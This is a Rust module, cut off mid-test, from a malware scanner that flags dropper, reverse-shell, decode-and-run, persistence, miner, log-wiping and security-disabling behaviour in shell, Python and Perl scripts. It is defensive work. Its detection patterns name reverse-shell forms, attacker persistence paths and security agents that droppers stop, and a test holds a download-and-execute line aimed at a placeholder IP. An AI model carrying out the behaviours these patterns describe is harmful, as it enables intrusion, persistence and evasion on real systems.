//! Script heuristics: what droppers, backdoors and miners do in sh, Python and Perl.
//!
//! Owns: the script [`CATALOG`] and [`analyze`], which reads the first
//! [`SCRIPT_SIZE_CAP`] bytes as text, joins `\`-continued lines, drops comment lines
//! and lower-cases, then looks for behaviour one line (one pipeline) at a time:
//! download-and-execute, reverse shells, decode-and-execute, persistence, `chattr`,
//! history and log wiping, mining, and killing competitors or security agents.
//! Must not own: reading the file, weights or thresholds.
//!
//! Matching is plain substring and word search, no regexes: patterns are few, lines
//! are short, and what matters is which *combination* appears in one pipeline
//! (`curl … | sh`, not `curl` and `sh` somewhere in the file). Calibration: a reverse
//! shell is specific enough to be malicious alone, and so is an IoT dropper that
//! fetches build after build from a raw IP address and runs (and deletes) each one
//! (`download_exec` reaches 100 only with that combination; measured on the corpus's
//! 755 malicious scripts and 4,336 benign ones in docs/builtin-rules.md);
//! everything else is suspicious at most on its own and adds up with the rest.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};

use super::Heuristic;
use crate::verdict::Reason;

/// Only the first 1 MiB of a script is read: droppers are small, and a scan must
/// stay cheap on large generated scripts.
pub const SCRIPT_SIZE_CAP: usize = 1 << 20;

/// A download piped into, or substituted into, an interpreter.
pub const DOWNLOAD_EXEC: Heuristic = Heuristic {
    id: "script.download_exec",
    score: 60,
    summary: "downloads code and runs it",
};
/// An interactive shell wired to a network socket.
pub const REVERSE_SHELL: Heuristic = Heuristic {
    id: "script.reverse_shell",
    score: 100,
    summary: "reverse shell (a shell's input and output on a network connection)",
};
/// Encoded code decoded straight into an interpreter.
pub const DECODE_EXEC: Heuristic = Heuristic {
    id: "script.decode_exec",
    score: 70,
    summary: "decodes hidden code and runs it",
};
/// Writes to a place that runs code at boot, login or on a schedule.
pub const PERSISTENCE: Heuristic = Heuristic {
    id: "script.persistence",
    score: 40,
    summary: "installs itself to run again (persistence)",
};
/// Makes files immutable (or removes others' immutability).
pub const CHATTR_IMMUTABLE: Heuristic = Heuristic {
    id: "script.chattr_immutable",
    score: 40,
    summary: "changes immutable/append-only attributes with chattr",
};
/// Erases shell history or login records.
pub const HISTORY_WIPE: Heuristic = Heuristic {
    id: "script.history_wipe",
    score: 40,
    summary: "erases shell history or login logs",
};
/// Mining pool URLs or miner names.
pub const MINER: Heuristic = Heuristic {
    id: "script.miner",
    score: 60,
    summary: "cryptocurrency miner",
};
/// Kills other miners or malware by name.
pub const KILL_COMPETITORS: Heuristic = Heuristic {
    id: "script.kill_competitors",
    score: 40,
    summary: "kills competing miners or malware by name",
};
/// Stops or removes security tools.
pub const DISABLE_SECURITY: Heuristic = Heuristic {
    id: "script.disable_security",
    score: 30,
    summary: "disables security tools or enforcement",
};

/// Every script heuristic.
pub const CATALOG: &[Heuristic] = &[
    DOWNLOAD_EXEC,
    REVERSE_SHELL,
    DECODE_EXEC,
    PERSISTENCE,
    CHATTR_IMMUTABLE,
    HISTORY_WIPE,
    MINER,
    KILL_COMPETITORS,
    DISABLE_SECURITY,
];

/// Commands that fetch from the network.
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "tftp",
    "ftpget",
    "lwp-download",
    "lwp-request",
    "aria2c",
];

/// Commands that run code read from standard input (or a file argument).
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "csh", "tcsh", "busybox", "python", "python2",
    "python3", "perl", "php", "ruby", "source", ".",
];

/// Decoders whose output is code when it feeds an interpreter.
const DECODERS: &[&str] = &[
    "base64 -d",
    "base64 --decode",
    "base64 -i -d",
    "base64 -di",
    "openssl enc -d",
    "openssl base64 -d",
    "openssl enc -base64 -d",
    "xxd -r",
    "uudecode",
];

/// Miner programs, mining pools and miner options.
const MINER_NAMES: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "xmrstak",
    "cpuminer",
    "minerd",
    "ccminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "nanominer",
    "lolminer",
    "nbminer",
    "phoenixminer",
    "srbminer",
    "teamredminer",
    "kdevtmpfsi",
    "kinsing",
    "cryptonight",
    "nicehash",
    "minexmr",
    "supportxmr",
    "nanopool",
    "moneroocean",
    "c3pool",
    "hashvault",
    "f2pool",
    "xmrpool",
    "dwarfpool",
    "monerohash",
    "--donate-level",
];

/// Process names of other malware families that miners and bots kill on arrival.
const RIVAL_NAMES: &[&str] = &[
    "kthreaddi",
    "sustes",
    "watchbog",
    "dbused",
    "ddgs",
    "qw3xt",
    "sysupdate",
    "networkservice",
    "sysguard",
    "kworkerds",
    "kerberods",
    "khugepageds",
    "solrd",
    "biosetjenkins",
];

/// Security agents (cloud host agents, HIDS, EDR) that droppers stop or remove.
const SECURITY_AGENTS: &[&str] = &[
    "aliyun",
    "aegis",
    "yunjing",
    "qcloud",
    "bcm-agent",
    "cloudmonitor",
    "aliyundun",
    "falcon-sensor",
    "wazuh",
    "ossec",
    "clamd",
    "clamav",
    "apparmor",
    "auditd",
];

/// Verbs that stop, remove or kill.
const STOPPERS: &[&str] = &[
    "stop",
    "disable",
    "mask",
    "kill",
    "pkill",
    "killall",
    "uninstall",
    "remove",
    "purge",
];

/// Places that run code again: (mechanism, score, targets).
const WRITES: &[(&str, u32, &[&str])] = &[
    (
        "cron",
        40,
        &[
            "/etc/crontab",
            "/etc/cron.d/",
            "/etc/cron.hourly/",
            "/etc/cron.daily/",
            "/etc/cron.weekly/",
            "/etc/cron.monthly/",
            "/var/spool/cron",
        ],
    ),
    (
        "systemd unit",
        40,
        &[
            "/etc/systemd/system/",
            "/lib/systemd/system/",
            "/usr/lib/systemd/system/",
            "/systemd/user/",
        ],
    ),
    (
        "rc.local/inittab",
        40,
        &["/etc/rc.local", "/etc/rc.d/rc.local", "/etc/inittab"],
    ),
    (
        "shell startup file",
        25,
        &[
            ".bashrc",
            ".bash_profile",
            "/.profile",
            "/etc/profile",
            "/etc/bash.bashrc",
        ],
    ),
    ("ssh authorized_keys", 40, &["authorized_keys"]),
    ("ld.so.preload", 80, &["/etc/ld.so.preload"]),
];

/// Login and system logs that attackers erase.
const LOGS: &[&str] = &[
    "/var/log/wtmp",
    "/var/log/btmp",
    "/var/log/lastlog",
    "/var/log/secure",
    "/var/log/auth.log",
    "/var/log/messages",
    "/var/log/syslog",
];

/// Groups of [`ANCHORS`]: a heuristic can only fire when its group's strings occur
/// somewhere in the lower-cased text (kill_competitors needs two groups).
const G_DOWNLOAD: u16 = 1 << 0;
const G_REVERSE: u16 = 1 << 1;
const G_DECODE: u16 = 1 << 2;
const G_PERSIST: u16 = 1 << 3;
const G_CHATTR: u16 = 1 << 4;
const G_HISTORY: u16 = 1 << 5;
const G_MINER: u16 = 1 << 6;
const G_KILL: u16 = 1 << 7;
const G_RIVAL: u16 = 1 << 8;
const G_SECURITY: u16 = 1 << 9;

/// Anchor strings and the groups each belongs to. Every pattern a heuristic tests
/// contains one of its group's anchors, and no anchor has a space (joining
/// `\`-continued lines inserts one, so a space-free string in a logical line is in
/// the text too): a text without them cannot make that heuristic fire.
static ANCHORS: LazyLock<Option<(AhoCorasick, Vec<u16>)>> = LazyLock::new(|| {
    let mut groups: BTreeMap<&str, u16> = BTreeMap::new();
    let mut add = |group: u16, needles: &[&'static str]| {
        for &needle in needles {
            *groups.entry(needle).or_default() |= group;
        }
    };
    add(G_DOWNLOAD, FETCHERS);
    add(G_DOWNLOAD, &["urlopen(", "requests.get("]);
    add(
        G_REVERSE,
        &[
            "/dev/tcp/",
            "/dev/udp/",
            "mkfifo",
            "socat",
            ".connect((",
            "socket(",
        ],
    );
    add(
        G_DECODE,
        &[
            "base64",
            "openssl",
            "xxd",
            "uudecode",
            "\\x",
            "b64decode(",
            "decompress(",
            "marshal.loads(",
            "codecs.decode(",
            "bytes.fromhex(",
            "decode_base64",
            "pack(",
        ],
    );
    for &(_, _, targets) in WRITES {
        add(G_PERSIST, targets);
    }
    add(G_PERSIST, &["crontab", "ld.so.preload"]);
    add(G_CHATTR, &["chattr"]);
    add(G_HISTORY, &["history", "histfile", "histsize"]);
    add(G_HISTORY, LOGS);
    add(G_MINER, &["stratum"]);
    add(G_MINER, MINER_NAMES);
    add(G_KILL, &["kill"]);
    add(G_RIVAL, MINER_NAMES);
    add(G_RIVAL, RIVAL_NAMES);
    add(G_SECURITY, &["setenforce", "ufw", "nmi_watchdog"]);
    add(G_SECURITY, SECURITY_AGENTS);
    let (needles, masks): (Vec<&str>, Vec<u16>) = groups.into_iter().unzip();
    // A DFA: the overlapping search (every anchor, even inside another) walks one
    // table step per byte; the default NFA took most of a large script's scan.
    AhoCorasick::builder()
        .kind(Some(AhoCorasickKind::DFA))
        .build(needles)
        .ok()
        .map(|automaton| (automaton, masks))
});

/// The anchor groups present in `text`, in one pass (netcat's names need word
/// boundaries, which the automaton does not check). Every group when the automaton
/// could not be built, so a failure costs time, never a detection.
fn anchor_groups(text: &str) -> u16 {
    let Some((automaton, masks)) = &*ANCHORS else {
        return u16::MAX;
    };
    let mut seen = 0;
    for found in automaton.find_overlapping_iter(text) {
        seen |= masks
            .get(found.pattern().as_usize())
            .copied()
            .unwrap_or(u16::MAX);
    }
    if ["nc", "ncat", "netcat"]
        .iter()
        .any(|word| has_word(text, word))
    {
        seen |= G_REVERSE;
    }
    seen
}

/// How many leading bytes [`looks_like_text`] needs to decide.
pub const TEXT_SNIFF_LEN: usize = 512;

/// True when `prefix` (the first [`TEXT_SNIFF_LEN`] bytes, or the whole file if
/// shorter) reads as text an interpreter could run: not empty, no NUL byte, and at
/// most 1 in 32 bytes a control character other than tab, newline, carriage
/// return, form feed and escape. UTF-8 and other 8-bit text passes; ELF, archives,
/// compiled bytecode, images and UTF-16 do not.
pub fn looks_like_text(prefix: &[u8]) -> bool {
    let prefix = &prefix[..prefix.len().min(TEXT_SNIFF_LEN)];
    if prefix.is_empty() || prefix.contains(&0) {
        return false;
    }
    let control = prefix
        .iter()
        .filter(|&&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)) || b == 0x7f)
        .count();
    control * 32 <= prefix.len()
}

/// Runs every script heuristic on `bytes`: a script with a `#!` line, or text an
/// interpreter was seen reading (`bash ./x`, `sh < ./x`, `python3 x.py`).
pub fn analyze(bytes: &[u8]) -> Vec<Reason> {
    analyze_where(bytes, true)
}

/// [`analyze`] with the anchor pre-filter (`filtered`) or without it (tests check
/// that it never changes a result). Unfiltered, every needle is searched in every
/// line: a 1 MiB script took about 100 ms; filtered, a script with no anchor costs
/// one pass.
fn analyze_where(bytes: &[u8], filtered: bool) -> Vec<Reason> {
    let text = String::from_utf8_lossy(&bytes[..bytes.len().min(SCRIPT_SIZE_CAP)]);
    let text = text.to_ascii_lowercase();
    let groups = if filtered {
        anchor_groups(&text)
    } else {
        u16::MAX
    };
    if groups == 0 {
        return Vec::new();
    }
    let lines = logical_lines(&text);
    DETECTORS
        .iter()
        .filter(|(needed, _)| groups & needed == *needed)
        .filter_map(|(_, detect)| detect(&lines))
        .collect()
}

/// Each heuristic with the anchor groups it needs (all of them) to be worth running.
type Detector = fn(&[String]) -> Option<Reason>;
const DETECTORS: [(u16, Detector); 9] = [
    (G_DOWNLOAD, download_exec),
    (G_REVERSE, reverse_shell),
    (G_DECODE, decode_exec),
    (G_PERSIST, persistence),
    (G_CHATTR, chattr),
    (G_HISTORY, history_wipe),
    (G_MINER, miner),
    (G_KILL | G_RIVAL, kill_competitors),
    (G_SECURITY, disable_security),
];

/// Lines with `\`-continuations joined, blank and comment lines (and the `#!` line)
/// dropped, trimmed.
fn logical_lines(text: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut current = String::new();
    for raw in text.split('\n') {
        let raw = raw.strip_suffix('\r').unwrap_or(raw);
        if let Some(head) = raw.strip_suffix('\\') {
            current.push_str(head);
            current.push(' ');
            continue;
        }
        current.push_str(raw);
        let line = current.trim();
        if !line.is_empty() && !line.starts_with('#') {
            lines.push(line.to_owned());
        }
        current.clear();
    }
    lines
}

fn is_word_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-'
}

/// Whether `word` occurs in `line` with no word character (alnum, `_`, `-`) on
/// either side.
fn has_word(line: &str, word: &str) -> bool {
    let bytes = line.as_bytes();
    // memchr's SIMD search: `str::find` took a quarter of a large script's scan.
    let finder = memchr::memmem::Finder::new(word);
    let mut start = 0;
    while let Some(at) = bytes.get(start..).and_then(|rest| finder.find(rest)) {
        let begin = start + at;
        let end = begin + word.len();
        let before = begin == 0 || !is_word_byte(bytes[begin - 1]);
        let after = end >= bytes.len() || !is_word_byte(bytes[end]);
        if before && after {
            return true;
        }
        start = begin + 1;
    }
    false
}

fn any_word<'a>(line: &str, words: &[&'a str]) -> Option<&'a str> {
    words.iter().copied().find(|word| has_word(line, word))
}

fn any_substring<'a>(line: &str, needles: &[&'a str]) -> Option<&'a str> {
    needles.iter().copied().find(|needle| line.contains(needle))
}

/// The command (basename, after `sudo`/`env`/`exec`/`nohup`) at the start of `text`,
/// and the first argument after it.
fn command(text: &str) -> (&str, &str) {
    let mut words = text
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | ')' | '(' | '`' | '"' | '\''))
        .filter(|word| !word.is_empty());
    let mut word = words.next().unwrap_or_default();
    while matches!(word, "sudo" | "env" | "exec" | "nohup" | "-e" | "-s") {
        word = words.next().unwrap_or_default();
    }
    let name = word.rsplit('/').next().unwrap_or_default();
    (name, words.next().unwrap_or_default())
}

/// The commands that receive a pipe in `line` (`a | b | c` → `b`, `c`).
fn piped_commands(line: &str) -> impl Iterator<Item = (&str, &str)> {
    let bytes = line.as_bytes();
    line.match_indices('|').filter_map(move |(at, _)| {
        let doubled = bytes.get(at + 1) == Some(&b'|') || (at > 0 && bytes[at - 1] == b'|');
        (!doubled).then(|| command(&line[at + 1..]))
    })
}

/// Whether an interpreter in `line` gets code on its standard input: a pipe into
/// `sh`, `bash`, `python`, … without `-c`/`-e`/`-m` (with those, stdin is data, as in
/// `curl … | python3 -c 'import json …'`).
fn pipes_into_interpreter(line: &str) -> bool {
    piped_commands(line).any(|(name, first)| {
        let data_only = first.starts_with('-')
            && first.len() > 1
            && first != "-s"
            && first
                .bytes()
                .any(|b| matches!(b, b'c' | b'e' | b'm' | b'n' | b'p'));
        // `.` and `source` read a file, not their input, unless it is named.
        let sources_stdin = !matches!(name, "." | "source") || first == "/dev/stdin";
        INTERPRETERS.contains(&name) && !data_only && sources_stdin
    })
}

/// Whether `line` writes to a path containing `target`: a `>`/`>>` redirection into
/// it, `tee` onto it, or `cp`/`mv`/`install`/`ln`/`echo` naming it after the command.
fn writes_to(line: &str, target: &str) -> bool {
    let mut start = 0;
    while let Some(at) = line.get(start..).and_then(|rest| rest.find(target)) {
        let begin = start + at;
        // Back up over the rest of the path: `>> ~/.ssh/authorized_keys`.
        let before = &line[..begin];
        let path_start = before
            .rfind(|c: char| c.is_ascii_whitespace() || matches!(c, '>' | '"' | '\'' | '=' | '('))
            .map_or(0, |i| i + 1);
        let prefix = line[..path_start].trim_end_matches(['"', '\'', ' ', '\t']);
        if prefix.ends_with('>') {
            return true;
        }
        let head = &line[..begin];
        if ["tee", "cp", "mv", "install", "ln", "rsync", "dd"]
            .iter()
            .any(|verb| has_word(head, verb))
        {
            return true;
        }
        start = begin + 1;
    }
    false
}

/// Whether `word` is a dotted-quad IPv4 address (optionally with `:port`).
fn is_ipv4(word: &str) -> bool {
    let host = word.split(':').next().unwrap_or_default();
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|part| {
            !part.is_empty() && part.len() <= 3 && part.bytes().all(|b| b.is_ascii_digit())
        })
}

/// Whether a fetch in `line` names its server by a raw IPv4 address: a URL's host,
/// or a bare argument (`tftp 10.0.0.7 -c get x`, `ftpget … 10.0.0.7 x x`).
fn fetches_from_ip(line: &str) -> bool {
    has_ip_url(line)
        || line
            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '"' | '\''))
            .any(is_ipv4)
}

/// Whether a URL in `line` has a raw IPv4 address as its host.
fn has_ip_url(line: &str) -> bool {
    line.match_indices("://").any(|(at, _)| {
        let host: &str = line[at + 3..]
            .split(|c: char| !(c.is_ascii_digit() || c == '.'))
            .next()
            .unwrap_or_default();
        let parts: Vec<&str> = host.split('.').collect();
        parts.len() == 4 && parts.iter().all(|part| !part.is_empty() && part.len() <= 3)
    })
}

/// `(first line, score)` of the strongest evidence, as a finding.
fn report(heuristic: &Heuristic, score: u32, what: Vec<String>) -> Option<Reason> {
    if what.is_empty() || score == 0 {
        return None;
    }
    let shown: Vec<&str> = what.iter().take(3).map(String::as_str).collect();
    let more = what.len() - shown.len();
    let tail = if more > 0 {
        format!(" (and {more} more)")
    } else {
        String::new()
    };
    Some(heuristic.reason_scored(score.min(100), format!("{}{tail}", shown.join("; "))))
}

/// Shortens a line for a detail message.
fn excerpt(line: &str) -> String {
    const MAX: usize = 120;
    if line.len() <= MAX {
        return format!("`{line}`");
    }
    let mut end = MAX;
    while !line.is_char_boundary(end) {
        end -= 1;
    }
    format!("`{}…`", &line[..end])
}

/// CPU architecture names that IoT droppers put in the names of the builds they
/// fetch, one per architecture (`bins/mirai.arm7`, `x86_64`, `mpsl`, …).
const ARCH_NAMES: &[&str] = &[
    "arm", "arm4", "arm5", "arm6", "arm7", "armv4l", "armv5l", "armv6l", "armv7l", "aarch64",
    "arm64", "mips", "mipsel", "mpsl", "mips64", "m68k", "ppc", "powerpc", "ppc440", "sh4",
    "sparc", "spc", "x86", "x86_64", "x64", "i386", "i486", "i586", "i686",
];

/// The statements of a logical line: split at `;`, `&&`, `||` and `&` (quotes are
/// not parsed: droppers do not hide separators in strings, and a split inside a
/// string only makes a statement look less like a command).
fn statements(line: &str) -> impl Iterator<Item = &str> {
    line.split([';', '&', '|'])
        .map(str::trim)
        .filter(|statement| !statement.is_empty())
}

/// Directories droppers write to and run from.
const DROP_DIRS: [&str; 4] = ["./", "/tmp/", "/var/tmp/", "/dev/shm/"];

/// The file a statement runs from the current or a temporary directory (`./x`,
/// `/tmp/x`, `sh /tmp/x`), if it does; with `fetched_here` (the line also
/// downloads), a bare `sh x` counts too.
fn runs_dropped(statement: &str, fetched_here: bool) -> Option<&str> {
    let statement = statement.strip_prefix("nohup ").unwrap_or(statement).trim();
    for dir in DROP_DIRS {
        if let Some(rest) = statement.strip_prefix(dir) {
            return rest
                .split_whitespace()
                .next()
                .filter(|name| !name.is_empty());
        }
    }
    let (name, first) = command(statement);
    let dropped = DROP_DIRS.iter().any(|dir| first.starts_with(dir))
        || (fetched_here && !first.is_empty() && !first.starts_with('-'));
    (matches!(name, "sh" | "bash") && dropped).then(|| first.trim_start_matches("./"))
}

fn download_exec(lines: &[String]) -> Option<Reason> {
    let mut what = Vec::new();
    let mut score = 0;
    let mut fetches = 0usize;
    let mut from_ip = false;
    let (mut chmod, mut run_dropped) = (false, false);
    // Files run and then deleted by the same line (`./x; rm -rf x`).
    let mut run_then_deleted: BTreeSet<String> = BTreeSet::new();
    let mut arches: BTreeSet<&str> = BTreeSet::new();
    // Lines that both download and run a dropped file: one per build tried.
    let mut tries = 0usize;
    for line in lines {
        let fetch = any_word(line, FETCHERS).is_some()
            || (line.contains("urlopen(") || line.contains("requests.get("));
        if fetch {
            fetches += 1;
            from_ip |= fetches_from_ip(line);
        }
        let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"]
            .iter()
            .any(|form| line.contains(form))
            && (has_word(line, "eval")
                || line.contains("sh -c")
                || line.contains("bash -c")
                || line.contains("source <(")
                || line.contains(". <(")
                || line.starts_with("bash <(")
                || line.starts_with("sh <("));
        let python = (line.contains("exec(") || line.contains("eval("))
            && (line.contains("urlopen(") || line.contains("requests.get("));
        if (fetch && pipes_into_interpreter(line)) || substituted || python {
            score = score.max(DOWNLOAD_EXEC.score);
            what.push(format!("runs what it downloads: {}", excerpt(line)));
        }
        if has_word(line, "chmod")
            && ["+x", "777", "755", "775", "700", "u+x", "a+x"]
                .iter()
                .any(|mode| has_word(line, mode) || line.contains(mode))
        {
            chmod = true;
        }
        // Statement by statement: `cd /tmp || cd /var/run; wget …; chmod +x x; ./x`
        // runs the drop in the middle of the line.
        let mut ran: Vec<&str> = Vec::new();
        for statement in statements(line) {
            if let Some(name) = runs_dropped(statement, fetch) {
                ran.push(name);
            } else if command(statement).0 == "rm" {
                for name in &ran {
                    if has_word(statement, name) {
                        run_then_deleted.insert((*name).to_owned());
                    }
                }
            }
        }
        run_dropped |= !ran.is_empty();
        if fetch && !ran.is_empty() {
            tries += 1;
        }
        // Architecture names in what it fetches, or a list of builds in one
        // assignment (`bins="m.arm m.mips m.x86"`); not `arch=x86_64` lines spread
        // over a `case`, as installers pick their one download.
        let named: BTreeSet<&str> = line
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .filter_map(|word| ARCH_NAMES.iter().copied().find(|arch| *arch == word))
            .collect();
        if fetch || (line.contains('=') && named.len() >= 3) {
            arches.extend(named);
        }
    }
    if fetches > 0 && chmod && run_dropped {
        score = score.max(50);
        what.push(format!(
            "{fetches} download(s), chmod +x and a run from a temporary or current directory"
        ));
    }
    if score > 0 && from_ip {
        score += 20;
        what.push("from a raw IP address".to_owned());
    }
    if score > 0 && fetches >= 5 && chmod {
        score += 10;
        what.push(format!("{fetches} downloads (one per CPU architecture?)"));
    }
    if score > 0 && tries >= 3 {
        score += 20;
        what.push(format!("{tries} lines each download and run a build"));
    }
    // One file run and removed is what an installer does with its temporary copy;
    // several are a dropper trying its builds until one runs.
    if score > 0 && run_then_deleted.len() >= 2 {
        score += 20;
        let names: Vec<&str> = run_then_deleted
            .iter()
            .take(3)
            .map(String::as_str)
            .collect();
        what.push(format!("deletes what it ran ({})", names.join(", ")));
    }
    if score > 0 && arches.len() >= 3 {
        score += 30;
        let names: Vec<&str> = arches.iter().copied().collect();
        what.push(format!(
            "builds for {} CPU architectures ({})",
            arches.len(),
            names.join(", ")
        ));
    }
    report(&DOWNLOAD_EXEC, score.min(100), what)
}

fn reverse_shell(lines: &[String]) -> Option<Reason> {
    let mut what = Vec::new();
    let mut score = 0;
    let whole = lines.join("\n");
    for line in lines {
        let shell_i = [
            "sh -i",
            "bash -i",
            "/bin/sh",
            "/bin/bash",
            "0>&1",
            "0<&",
            "<&3",
            ">&3",
        ]
        .iter()
        .any(|form| line.contains(form));
        if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
            if shell_i {
                score = score.max(100);
                what.push(format!("shell on /dev/tcp: {}", excerpt(line)));
            } else {
                score = score.max(30);
                what.push(format!("raw socket via /dev/tcp: {}", excerpt(line)));
            }
        }
        let netcat = any_word(line, &["nc", "ncat", "netcat", "nc.traditional"]).is_some();
        if netcat && (has_word(line, "-e") || has_word(line, "-c")) && line.contains("sh") {
            score = score.max(100);
            what.push(format!("netcat running a shell: {}", excerpt(line)));
        }
        if line.contains("mkfifo")
            && (netcat || line.contains("telnet") || line.contains("s_client"))
            && shell_i
        {
            score = score.max(100);
            what.push(format!("fifo shell over the network: {}", excerpt(line)));
        }
        if has_word(line, "socat")
            && (line.contains("exec:") || line.contains("system:"))
            && ["tcp", "udp", "ssl", "openssl"]
                .iter()
                .any(|proto| line.contains(proto))
        {
            score = score.max(100);
            what.push(format!(
                "socat running a program on a socket: {}",
                excerpt(line)
            ));
        }
    }
    // Connect out, put the socket on stdin/stdout, start a shell: all three.
    let python = whole.contains(".connect((")
        && whole.contains("dup2(")
        && whole.contains("fileno()")
        && (whole.contains("pty.spawn(")
            || whole.contains("/bin/sh")
            || whole.contains("/bin/bash")
            || whole.contains("subprocess.call("));
    let perl = whole.contains("socket(")
        && whole.contains("connect(")
        && (whole.contains("open(stdin") || whole.contains("open stdin"))
        && whole.contains(">&")
        && whole.contains("exec");
    if python || perl {
        score = score.max(100);
        what.push("socket duplicated onto stdin/stdout, then a shell".to_owned());
    }
    report(&REVERSE_SHELL, score, what)
}

fn decode_exec(lines: &[String]) -> Option<Reason> {
    let mut what = Vec::new();
    for line in lines {
        let decoder = any_substring(line, DECODERS).is_some()
            || ((line.starts_with("printf") || line.starts_with("echo -e"))
                && line.matches("\\x").count() >= 8);
        let runs = pipes_into_interpreter(line)
            || has_word(line, "eval")
            || line.contains("sh -c")
            || line.contains("bash -c")
            || line.contains("source <(")
            || line.contains(". <(");
        let python = (line.contains("exec(") || line.contains("eval("))
            && [
                "b64decode(",
                "decompress(",
                "marshal.loads(",
                "codecs.decode(",
                "bytes.fromhex(",
            ]
            .iter()
            .any(|call| line.contains(call));
        let perl = [
            "eval(decode_base64",
            "eval decode_base64",
            "eval(pack(",
            "eval pack(",
            "eval(unpack(",
            "eval unpack(",
        ]
        .iter()
        .any(|form| line.contains(form));
        if (decoder && runs) || python || perl {
            what.push(excerpt(line));
        }
    }
    report(&DECODE_EXEC, DECODE_EXEC.score, what)
}

fn persistence(lines: &[String]) -> Option<Reason> {
    let mut mechanisms: BTreeSet<(u32, &str)> = BTreeSet::new();
    let mut what = Vec::new();
    for line in lines {
        for &(mechanism, score, targets) in WRITES {
            if targets.iter().any(|target| writes_to(line, target))
                && mechanisms.insert((score, mechanism))
            {
                what.push(format!("{mechanism}: {}", excerpt(line)));
            }
        }
        // `… | crontab -`, `crontab -`, `crontab FILE`; not `crontab -l`/`-e`/`-r`.
        let (name, first) = command(line);
        let crontab_installs = piped_commands(line)
            .any(|(name, first)| name == "crontab" && !first.starts_with("-l"))
            || (name == "crontab"
                && (first == "-" || (!first.is_empty() && !first.starts_with('-'))));
        if crontab_installs && mechanisms.insert((40, "crontab")) {
            what.push(format!("crontab: {}", excerpt(line)));
        }
        if line.contains("ld.so.preload") && mechanisms.insert((30, "mentions ld.so.preload")) {
            what.push(format!("ld.so.preload: {}", excerpt(line)));
        }
    }
    let best = mechanisms.iter().map(|&(score, _)| score).max()?;
    let extra = u32::try_from(mechanisms.len().saturating_sub(1)).unwrap_or(u32::MAX);
    report(
        &PERSISTENCE,
        best.saturating_add(extra.saturating_mul(10)).min(90),
        what,
    )
}

fn chattr(lines: &[String]) -> Option<Reason> {
    let what = lines
        .iter()
        .filter(|line| {
            has_word(line, "chattr")
                && ["+i", "-i", "+a", "-a", "+ia", "-ia", "+ai", "-ai"]
                    .iter()
                    .any(|flag| line.contains(&format!(" {flag}")))
        })
        .map(|line| excerpt(line))
        .collect();
    report(&CHATTR_IMMUTABLE, CHATTR_IMMUTABLE.score, what)
}

fn history_wipe(lines: &[String]) -> Option<Reason> {
    let (mut history, mut logs) = (false, false);
    let mut what = Vec::new();
    for line in lines {
        let wipes_history = [
            "history -c",
            "unset histfile",
            "histfile=/dev/null",
            "histsize=0",
            "histfilesize=0",
        ]
        .iter()
        .any(|form| line.contains(form))
            || (line.contains(".bash_history")
                && (has_word(line, "rm")
                    || has_word(line, "shred")
                    || line.contains("/dev/null")
                    || writes_to(line, ".bash_history")));
        let wipes_logs = LOGS.iter().any(|log| {
            line.contains(log)
                && (has_word(line, "rm") || has_word(line, "shred") || writes_to(line, log))
        });
        if wipes_history || wipes_logs {
            history |= wipes_history;
            logs |= wipes_logs;
            what.push(excerpt(line));
        }
    }
    let score = if history && logs {
        60
    } else {
        HISTORY_WIPE.score
    };
    report(&HISTORY_WIPE, score, what)
}

fn miner(lines: &[String]) -> Option<Reason> {
    let (mut pool, mut name) = (false, false);
    let mut what = Vec::new();
    for line in lines {
        if let Some(url) = any_substring(
            line,
            &[
                "stratum+tcp://",
                "stratum+ssl://",
                "stratum+tls://",
                "stratum2+tcp://",
            ],
        ) {
            pool = true;
            what.push(format!("pool URL {url}…"));
        }
        if let Some(miner) = any_word(line, MINER_NAMES) {
            if !name {
                what.push(format!("names {miner}: {}", excerpt(line)));
            }
            name = true;
        }
    }
    let score = match (pool, name) {
        (true, true) => 80,
        (true, false) => MINER.score,
        (false, true) => 40,
        (false, false) => 0,
    };
    report(&MINER, score, what)
}

fn kill_competitors(lines: &[String]) -> Option<Reason> {
    let mut rivals: BTreeSet<&str> = BTreeSet::new();
    let mut what = Vec::new();
    for line in lines {
        let kills = any_word(line, &["kill", "pkill", "killall"]).is_some();
        if !kills {
            continue;
        }
        let named: Vec<&str> = MINER_NAMES
            .iter()
            .chain(RIVAL_NAMES)
            .copied()
            .filter(|name| has_word(line, name))
            .collect();
        if !named.is_empty() {
            what.push(excerpt(line));
            rivals.extend(named);
        }
    }
    let score = match rivals.len() {
        0 => 0,
        1 => KILL_COMPETITORS.score,
        2..=4 => 60,
        _ => 80,
    };
    report(&KILL_COMPETITORS, score, what)
}

fn disable_security(lines: &[String]) -> Option<Reason> {
    let mut items: BTreeSet<&str> = BTreeSet::new();
    let mut what = Vec::new();
    for line in lines {
        let mut hit = None;
        if line.contains("setenforce 0") {
            hit = Some("setenforce 0");
        } else if line.contains("ufw disable") {
            hit = Some("ufw disable");
        } else if line.contains("nmi_watchdog") && writes_to(line, "nmi_watchdog") {
            hit = Some("nmi_watchdog");
        } else if any_word(line, STOPPERS).is_some() || line.contains("rm -rf") {
            hit = any_word(line, SECURITY_AGENTS);
        }
        if let Some(item) = hit
            && items.insert(item)
        {
            what.push(excerpt(line));
        }
    }
    let score = match items.len() {
        0 => 0,
        1 => DISABLE_SECURITY.score,
        2 => 50,
        _ => 70,
    };
    report(&DISABLE_SECURITY, score, what)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_is_told_from_binary() {
        let text: &[&[u8]] = &[
            b"wget http://1.2.3.4/x; sh x\n",
            b"import os\nos.system('id')\n",
            "echo 'gr\u{fc}\u{df}e'\r\n".as_bytes(),
            b"\x1b[1mbold\x1b[0m\tand\x0c",
